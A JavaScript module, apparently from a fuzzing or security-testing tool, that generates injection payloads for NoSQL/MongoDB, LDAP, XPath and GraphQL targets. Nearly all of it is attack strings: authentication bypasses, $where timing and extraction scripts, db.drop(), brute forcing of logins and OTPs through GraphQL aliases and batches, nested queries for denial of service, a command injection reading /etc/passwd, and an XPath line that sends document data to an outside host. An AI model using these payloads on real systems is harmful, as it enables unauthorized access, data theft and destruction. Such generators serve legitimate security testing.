/** Attacks on document stores, directories, XPath and GraphQL. */
import { lines } from './grammar.mjs'

const aliases = (r) => {
  const n = 3 + r.below(40)
  const what = [
    '__typename',
    'login(u:"admin",p:"p#"){token}',
    'user(id:#){email}',
    'verifyOtp(code:"00#"){ok}',
    'me{id}',
    'systemUpdate',
    'checkCoupon(code:"A#"){valid}',
    'resetPassword(pin:"#"){ok}',
    'pastes{id}',
  ][r.below(9)]
  const name = ['a', 'q', 'alias', 'x', 'm', 'l', 'op', 'bypass'][r.below(8)]
  const head = ['query', 'mutation', '', 'query q '][r.below(4)]
  return `${head}{${Array.from({ length: n }, (_, i) => `${name}${i}:${what.replaceAll('#', i)}`).join(r.below(2) ? ' ' : '\n')}}`
}
const deep = (r) => {
  const pair = [
    ['friends', 'friends'],
    ['author', 'posts'],
    ['owner', 'items'],
    ['user', 'orders'],
    ['parent', 'children'],
    ['owner', 'pastes'],
    ['team', 'members'],
    ['company', 'employees'],
    ['comments', 'author'],
  ][r.below(9)]
  const n = 8 + r.below(24)
  let s = 'id'
  for (let i = 0; i < n; i++) s = `${pair[i % 2]}{${s}}`
  return `${['query', '', 'query Q'][r.below(3)]}{${s}}`
}
const repeated = (r) => {
  const n = 12 + r.below(60)
  const what = ['__typename', 'id', 'email', 'name', '@aa', 'title', 'systemHealth', 'me'][r.below(8)]
  return what === '@aa' ? `query{__typename ${'@aa'.repeat(n)}}` : `query{user{${`${what} `.repeat(n)}}}`
}
const batch = (r) => {
  const n = 4 + r.below(20)
  const q = [
    'query{user(id:#){email}}',
    'mutation{login(u:\\"admin\\",p:\\"#\\"){token}}',
    '{me{id}}',
    'query{order(id:#){total}}',
  ][r.below(4)]
  return `[${Array.from({ length: n }, (_, i) => `{"query":"${q.replaceAll('#', i)}"}`).join(',')}]`
}

export const QUERY = {
  nosql: lines`
    {"§mf§":{"§mop§":§mv§}}
    {"§mf§":{"§mop§":§mv§}}
    {"§mf§":{"§mop§":§mv§},"§mf§":{"§mop§":§mv§}}
    {"§mf§":{"§mop§":§mv§},"§mf§":{"§mop§":§mv§}}
    {"§mf§":"admin","§mf§":{"§mop§":§mv§}}
    {"§mop§":§mv§}
    {"§mf§": {"§mop§": §mv§}, "§mf§": {"§mop§": §mv§}}
    §mf§[§mop§]=§mq§
    §mf§[§mop§]=§mq§&§mf§[§mop§]=§mq§
    §mf§[§mop§]
    [§mop§]=§mq§
    {"$where":"§mjs§"}
    {"$where": "§mjs§"}
    {"$or":[{"§mf§":"admin"},{"§mf§":{"§mop§":§mv§}}]}
    {"$or":[{},{"a":"a"}]}
    ', $or: [ {}, { 'a':'a
    ' } ], $comment:'successful MongoDB injection'
    §mq§§msep§ §mjs§ §mend§
    §mq§§msep§§mjs§§mend§
    §mq§' || §mcond§ §mend§
    §mq§' || §mcond§§mend§
    §mq§' && §mcond§§mend§
    '; return §mcond§; var x='
    ';§mjs§;'
    ';§mjs§
    " || §mcond§ || "
    || §mcond§
    || §mcond§//
    1, $where: '§mcond§'
    ', $where: '§mcond§'
    $where: '§mcond§'
    db.§word§.find({$where:"§mjs§"})
    db.§word§.drop()
    db.injection.insert({success:1});return 1;db.stores.mapReduce(function() { { emit(1,1
    {"§mf§":{"$regex":"^§rnd§"}}
    {"§mf§":{"$regex":".*"}}
    {"§mf§":{"$regex":"^.{§nn§}"}}
    {"§mf§":{"$in":["admin","root","administrator"]}}
    {"§mf§":{"$nin":["§rnd§"]}}
    {"§mf§":{"$not":{"$eq":"§rnd§"}}}
    {"§mf§":{"$exists":true}}
    {"$expr":{"$function":{"body":"function(){§mjs§}","args":[],"lang":"js"}}}
    {"$lookup":{"from":"users","pipeline":[],"as":"x"}}
    {"selector":{"_id":{"$gt":null}}}
    {"_id":{"$gt":""}}
    function(){§mjs§}
    this.§mf§.match(/§rnd§.*/)
    true, $where: '§mcond§'
    ';sleep(§num§);'
    ';it=new%20Date();do{pt=new%20Date();}while(pt-it<§num§);
    {$gt:''}
    {$ne:1}
    {"$gt":undefined}
    [$ne]=§rnd§
  `,
  mf: [
    'username',
    'password',
    'user',
    'pass',
    'email',
    'token',
    'role',
    'id',
    'pin',
    '_id',
    'login',
    'apikey',
    'code',
    'name',
    'key',
    'resetToken',
    '§word§',
  ],
  mop: [
    '$ne',
    '$gt',
    '$gte',
    '$lt',
    '$lte',
    '$regex',
    '$in',
    '$nin',
    '$exists',
    '$not',
    '$eq',
    '$type',
    '$where',
    '$ne',
    '$gt',
    '$or',
    '$and',
    '$elemMatch',
  ],
  mv: [
    '""',
    'null',
    '1',
    '-1',
    '"§rnd§"',
    'undefined',
    '".*"',
    '"^a"',
    'true',
    '["admin"]',
    '"~"',
    '0',
    '{}',
    '[]',
    '"admin"',
    '"foo"',
  ],
  mq: ['', '1', '§rnd§', 'admin', '.*', 'true', '^a', 'xyz'],
  msep: ["'", '"', "';", '";', "' ||", "' &&", "'})", '0;', ';'],
  mcond: [
    '1==1',
    "'1'=='1",
    '1==1//',
    'this.password.match(/.*/)',
    "'a'=='a'",
    'true',
    "this.username=='admin'",
    'this.§mf§ != null',
    '1',
    '1==§n§',
    'this.§mf§.length>§n§',
    "this.§mf§=='§rnd§",
    "this.password[0]=='§n§",
  ],
  mjs: [
    'sleep(§num§)',
    'return true',
    'while(1);',
    "this.§mf§=='§rnd§'",
    'return this.§mf§.match(/^§rnd§/)',
    'var d=new Date();do{c=new Date();}while(c-d<§num§)',
    'function(){return true}',
    "this.§mf§.startsWith('§rnd§')",
    '1==1',
    'return db.getCollectionNames()',
    "if(this.§mf§=='§rnd§'){sleep(§num§)}else{return 1}",
    'throw new Error(JSON.stringify(this))',
    'sleep(5000) || true',
    "Object.keys(this)[§n§].match('^.{0}§rnd§')",
    'return 1',
    'tojson(this)',
  ],
  mend: ['', '//', '%00', "'", ';', "+'", "|| '", '\\u0000', '//+%00', "&& '1"],

  ldap: lines`
    *)(§la§=*
    *)(§la§=*))(|(§la§=*
    *)(|(§la§=*))
    *)(|(§la§=*
    *))%00
    *))(|(§la§=*
    *))%00(§la§=
    *)(&
    *)(§la§=§rnd§)
    §lv§)(&)
    §lv§)(&(§la§=*
    §lv§)(|(§la§=*)
    §lv§)(!(&(1=0
    §lv§))(|(§la§=*
    §lv§*)(§la§=*))
    §lv§)(§la§=*))%00
    *()|&'
    *()|%26'
    *(|(§la§=*))
    *(|(objectclass=*))
    (§la§=*)
    (|(§la§=*)(§la§=*))
    (&(§la§=§lv§)(§la§=*))
    *)((|§la§=*)
    x' or §la§()='§la§
    )(§la§=*
    )(|(§la§=*
    admin*)((|userpassword=*)
    admin)(!(&(|
    admin)(userPassword=*))
    §lv§*))(|(§la§=§lv§*
    |(§la§=*)
    !(§la§=*)
    *|
    *)§la§=*)(&(§la§=*)
    (!(§la§=§lv§))
    §lv§*)(|(password=*))
    %2A%29%28§la§%3D%2A
    *)(objectClass=*))(&(objectClass=void
    §lv§)(|(cn=§rnd§*
    (&(objectClass=user)(memberOf=*))
    \\2a\\29(§la§=\\2a
    §lv§\\00
    *)(!(§la§=§rnd§
    //)(§la§=*
    §lv§)(|(|
  `,
  la: [
    'uid',
    'cn',
    'sn',
    'mail',
    'objectClass',
    'userPassword',
    'user',
    'password',
    'ou',
    'sAMAccountName',
    'memberOf',
    'givenName',
    'telephoneNumber',
    'description',
    'role',
    'homeDirectory',
    'pwdLastSet',
    'department',
    'o',
    'name',
    'admin',
  ],
  lv: ['', 'admin', 'a', '*', '§rnd§', 'user', 'root', 'x', 'test', 'foo', 'bar'],

  xpath: lines`
    ' or '1'='1' or ''='
    ' or 1=1 or 'a'='a
    ' or ''='
    x' or name()='§xn§' or 'x'='y
    ' or count(/*)=§n§ or ''='
    ' and count(/*)=§n§ and '1'='1
    ' and count(//*)=§n§ and 'a'='a
    ' or string-length(name(/*[1]))=§n§ or 'a'='b
    ' and string-length(//§xn§[1]/§xn§)=§n§ and 'a'='a
    ' or substring(name(/*[1]),§n§,1)='§rnd§' or 'a'='b
    ' or substring(//§xn§[position()=§n§]/child::node()[position()=2],1,1)='a' or ''='
    '] | //* | //*['
    '] | //§xn§ | //§xn§['
    ']/parent::*/child::node()|a['
    ' or contains(§xn§,'§rnd§') or ''='
    ' or starts-with(//§xn§/§xn§,'§rnd§') or 'x'='y
    ') or ('x'='x
    ' or position()=§n§ or ''='
    ' or /* or ''='
    //*
    //§xn§
    //§xn§/§xn§/text()
    //§xn§[§xn§='admin']/§xn§
    count(/child::node())
    count(//§xn§)
    string-length(//§xn§[1]/text())
    name(/*[§n§])
    /*/*[§n§]/§xn§/text()
    ']|//password|//x['
    admin' or 'a'='a' or '
    ' or local-name(/*[1])='§xn§
    " or ""="
    " or count(//§xn§)>§n§ or "a"="b
    ancestor::§xn§
    §val§' or ancestor-or-self::node() or '
    ' and doc('http://§host§/')/* and ''='
    doc(concat('http://§host§/?x=',encode-for-uri(//§xn§[1])))
    ' and substring((//*)[§n§],1,1)='§rnd§' and ''='
    ' or last()=§n§ or ''='
    §val§'] | /* | /foo[bar='
    unparsed-text('file:///etc/passwd')
    ' or ends-with(//§xn§,'§rnd§') and '1'='1
    '|/*|'
    ')]|//*|//*[contains(.,'
    1 or true()
    ' or true() or '
    ' and not(§xn§) or '1'='1
  `,
  xn: [
    'user',
    'users',
    'username',
    'password',
    'account',
    'employee',
    'book',
    'node',
    'item',
    'accounts',
    'admin',
    'name',
    'pass',
    'id',
    'role',
    'login',
    '§rnd§',
  ],

  graphql: lines`
    §introspect§
    §introspect§
    §introspect§
    §aliases§
    §aliases§
    §deep§
    §deep§
    §repeated§
    §batch§
    {"query":"§introspect1§"}
    query={__schema{types{name}}}
    fragment A on Query{...B} fragment B on Query{...A} query{...A}
    fragment X on User{friends{...X}} query{me{...X}}
    query{§word§(id:"1' or '1'='1"){id}}
    mutation{login(username:"admin' --",password:"x"){token}}
    query{§word§(filter:"§word§=1 OR 1=1"){id}}
    query{systemDebug(arg:"; §shell3§")}
    mutation{importPaste(host:"localhost; §shell3§",port:80,path:"/",scheme:"http"){result}}
    query{§word§(first:§num§0000){edges{node{id}}}}
    query{§word§(limit:99999999){id}}
    mutation{updateUser(id:1,role:"admin",isAdmin:true){id}}
  `,
  shell3: ['id', 'cat /etc/passwd', 'uname -a', 'whoami'],
  aliases,
  deep,
  repeated,
  batch,
  introspect1: [
    '{__schema{types{name fields{name}}}}',
    'query{__schema{queryType{name}}}',
    '{__type(name:\\"User\\"){fields{name}}}',
  ],
  introspect: lines`
    {__schema{types{name}}}
    {__schema{types{name,fields{name}}}}
    { __schema { queryType { name } } }
    query{__schema{queryType{fields{name args{name}}}}}
    query { __schema { mutationType { name fields { name } } } }
    query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { ...FullType } directives { name locations args { ...InputValue } } } } fragment FullType on __Type { kind name fields(includeDeprecated: true) { name args { ...InputValue } type { ...TypeRef } } } fragment InputValue on __InputValue { name type { ...TypeRef } } fragment TypeRef on __Type { kind name ofType { kind name ofType { kind name } } }
    query IntrospectionQuery{__schema{queryType{name}types{...T}}}fragment T on __Type{kind name fields{name type{name}}}
    {__type(name:"§word§"){name fields{name type{name kind ofType{name}}}}}
    query{__type(name:"User"){name fields{name}}}
    query($n:String!){__type(name:$n){name inputFields{name} enumValues{name}}}
    {__schema{directives{name locations args{name}}}}
    {__schema{types{name kind description fields{name type{name}}}}}
    query {__schema{subscriptionType{name}}}
    query { __schema { types { fields { type { fields { type { fields { type { name } } } } } } } } }
    { __schema { types { kind name possibleTypes { name } inputFields { name } } } }
    {__schema\n{types{name}}}
  `,
}
